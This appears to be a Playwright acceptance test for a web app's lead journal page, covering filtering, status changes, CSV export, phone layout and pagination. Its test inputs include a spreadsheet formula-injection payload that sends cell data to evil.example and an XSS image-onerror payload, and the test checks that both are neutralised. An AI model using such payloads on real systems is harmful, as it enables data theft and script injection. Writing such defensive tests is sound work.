"""Acceptance: the lead journal page in Chromium against a real `omnihub serve`.

Web-form posts make the leads; a manager filters them (the filter is the page's URL),
changes a status in the journal and in a conversation's header, downloads the CSV and
finds the rows in it. Screenshots in Russian and English at 1280 and 390 px go to the
hub's artifacts under `inbox/leads-*.png`.
"""

from __future__ import annotations

import asyncio
import csv
import io
from email.message import EmailMessage
from pathlib import Path
from typing import Any

from tests.e2e.workspace import (
    ADMIN,
    MAILBOX,
    MANAGER_EN,
    Workspace,
    no_overflow,
    post_form,
    sign_in,
    wait_for,
)

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Подробнее")'
MARKUP = "<img src=x onerror=alert(1)>ООО «Очень длинное название компании-клиента» " * 2


def lead_status(hub: Workspace, conversation_id: int) -> str:
    rows = hub.sql("SELECT status FROM leads WHERE conversation_id = ?", conversation_id)
    assert rows, conversation_id
    return str(rows[0][0])


def lead_id(hub: Workspace, conversation_id: int) -> int:
    return int(hub.sql("SELECT id FROM leads WHERE conversation_id = ?", conversation_id)[0][0])


async def test_filter_change_status_and_download_the_journal(
    hub: Workspace, desk: Any, browser: Any
) -> None:
    from playwright.async_api import expect

    svetlana = await asyncio.to_thread(
        post_form, hub, "Светлана Иванова", "svetlana@example.ru", "Хочу заказать 20 коробок."
    )
    hostile = await asyncio.to_thread(
        post_form, hub, HOSTILE, "hostile@example.ru", "=1+2 посчитайте; срочно"
    )
    markup = await asyncio.to_thread(
        post_form, hub, MARKUP.strip(), "markup@example.ru", "Длинный текст заявки " * 20
    )

    page = await desk.new_page()
    alerts: list[str] = []
    page.on("dialog", lambda dialog: alerts.append(dialog.message))
    await sign_in(page, hub, ADMIN)
    await page.get_by_role("link", name="Лиды").click()
    await page.wait_for_url("**/leads")
    await expect(page.get_by_role("heading", level=1)).to_have_text("Журнал заявок")
    for conversation_id in (svetlana, hostile, markup):
        await expect(page.locator(f"#lead-{lead_id(hub, conversation_id)}")).to_be_visible()
    await expect(page.locator(f"#lead-{lead_id(hub, markup)}")).to_contain_text("<img src=x")
    await page.screenshot(path=hub.artifacts / "leads-ru-1280.png", full_page=True)
    await no_overflow(page, 1280)

    # Filter by text: the filter is the page's own URL.
    await page.get_by_label("Текст").fill("Светлана")
    await page.get_by_role("button", name="Показать", exact=True).click()
    await page.wait_for_url("**/leads?*text=*")
    rows = page.locator("#lead-rows > tr[data-lead]")
    await expect(rows).to_have_count(1)
    row = page.locator(f"#lead-{lead_id(hub, svetlana)}")
    await expect(row).to_contain_text("Светлана Иванова")

    # Change the status in place: the row comes back from the server with it.
    async with page.expect_response(lambda r: r.url.endswith("/status")) as answer:
        await row.get_by_label(f"Статус заявки №{lead_id(hub, svetlana)}").select_option("in_work")
    assert (await answer.value).status == 200
    await expect(row.locator("select")).to_have_value("in_work")
    assert lead_status(hub, svetlana) == "in_work"
    assert "/leads?" in page.url  # no navigation

    # The status filter finds it; the others are still new.
    await page.goto(hub.url + "/leads")
    await page.get_by_label("В работе").check()
    await page.get_by_role("button", name="Показать", exact=True).click()
    await page.wait_for_url("**/leads?status=in_work*")
    await expect(rows).to_have_count(1)
    await expect(rows.first).to_contain_text("Светлана Иванова")

    # The CSV of the whole journal: every row, the hostile name neutralised.
    await page.goto(hub.url + "/leads")
    async with page.expect_download() as downloading:
        await page.get_by_role("link", name="Скачать CSV").click()
    download = await downloading.value
    assert download.suggested_filename.startswith("leads-")
    assert download.suggested_filename.endswith(".csv")
    raw = await asyncio.to_thread(Path(await download.path()).read_bytes)
    assert raw.startswith(b"\xef\xbb\xbf")
    table = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert table[0][:3] == ["Номер", "Создана", "Клиент"]
    by_conversation = {row[10]: row for row in table[1:]}
    assert by_conversation[str(svetlana)][2] == "Светлана Иванова"
    assert by_conversation[str(svetlana)][8] == "В работе"
    assert by_conversation[str(hostile)][2] == "'" + HOSTILE
    assert by_conversation[str(markup)][2] == MARKUP.strip()
    assert alerts == []

    # The conversation's header offers the same status form.
    await page.goto(hub.url + f"/inbox/v/open/c/{hostile}")
    header_form = page.locator(".conv-head form.lead-status")
    await expect(header_form).to_be_visible()
    async with page.expect_response(lambda r: r.url.endswith("/status")):
        await header_form.locator("select").select_option("spam")
    await expect(page.locator(".conv-head form.lead-status select")).to_have_value("spam")
    assert lead_status(hub, hostile) == "spam"
    await page.screenshot(path=hub.artifacts / "leads-conversation-ru-1280.png")
    assert alerts == []


async def test_the_journal_fits_a_phone_and_reads_in_english(hub: Workspace, browser: Any) -> None:
    from playwright.async_api import expect

    kate = await asyncio.to_thread(
        post_form, hub, "Ekaterina Long-Surname-Of-A-Client", "kate@example.com", "A quote please"
    )
    for who, lang, title in ((ADMIN, "ru", "Журнал заявок"), (MANAGER_EN, "en", "Lead journal")):
        for width, height in ((390, 844), (1280, 800)):
            context = await browser.new_context(
                viewport={"width": width, "height": height}, locale="ru-RU"
            )
            try:
                page = await context.new_page()
                await sign_in(page, hub, who)
                await page.goto(hub.url + "/leads")
                await expect(page.get_by_role("heading", level=1)).to_have_text(title)
                await expect(page.locator("#lead-rows > tr[data-lead]").first).to_be_visible()
                await no_overflow(page, width)
                await page.screenshot(
                    path=hub.artifacts / f"leads-{lang}-{width}.png", full_page=True
                )
                if width == 390:
                    # A filter the journal cannot read is refused in words, the form kept.
                    await page.goto(hub.url + "/leads?created_from=31.12.2026&text=%3Cb%3Ex")
                    await expect(page.get_by_role("alert")).to_contain_text(
                        "ГГГГ-ММ-ДД" if lang == "ru" else "YYYY-MM-DD"
                    )
                    await expect(page.locator("#lead-rows > tr")).to_have_count(0)
                    await no_overflow(page, width)
                    await page.screenshot(path=hub.artifacts / f"leads-refused-{lang}-390.png")
                # The lead's status in the conversation's header fits too.
                await page.goto(hub.url + f"/inbox/v/open/c/{kate}")
                await expect(page.locator(".conv-head form.lead-status select")).to_have_value(
                    "new"
                )
                await no_overflow(page, width)
                await page.screenshot(path=hub.artifacts / f"leads-conversation-{lang}-{width}.png")
            finally:
                await context.close()


async def test_more_appends_the_next_page_in_place(hub: Workspace, desk: Any) -> None:
    from playwright.async_api import expect

    # Letters to the support mailbox (no rate limit there): each opens a lead.
    before = int(hub.sql("SELECT count(*) FROM leads")[0][0])
    for number in range(52):
        letter = EmailMessage()
        letter["From"] = f"Клиент {number} <c{number}@example.ru>"
        letter["To"] = "support@shop.example.ru"
        letter["Subject"] = f"Заявка {number}"
        letter["Message-ID"] = f"<lead-{number}@example.ru>"
        letter.set_content("Нужна заявка")
        await asyncio.to_thread(hub.dovecot.deliver, MAILBOX[0], letter.as_bytes())
    await wait_for(lambda: int(hub.sql("SELECT count(*) FROM leads")[0][0]) >= before + 52, 60)
    total = int(hub.sql("SELECT count(*) FROM leads")[0][0])
    assert total > 50
    page = await desk.new_page()
    await sign_in(page, hub, ADMIN)
    await page.goto(hub.url + "/leads")
    rows = page.locator("#lead-rows > tr[data-lead]")
    await expect(rows).to_have_count(50)
    await page.get_by_role("link", name="Показать ещё").click()
    await expect(rows).to_have_count(total)
    await expect(page.get_by_role("link", name="Показать ещё")).to_have_count(0)
    assert page.url == hub.url + "/leads"  # appended in place, not a new page
    ids = [int(value) for value in await rows.evaluate_all("rows => rows.map(r => r.dataset.lead)")]
    assert ids == sorted(ids, reverse=True) and len(set(ids)) == total
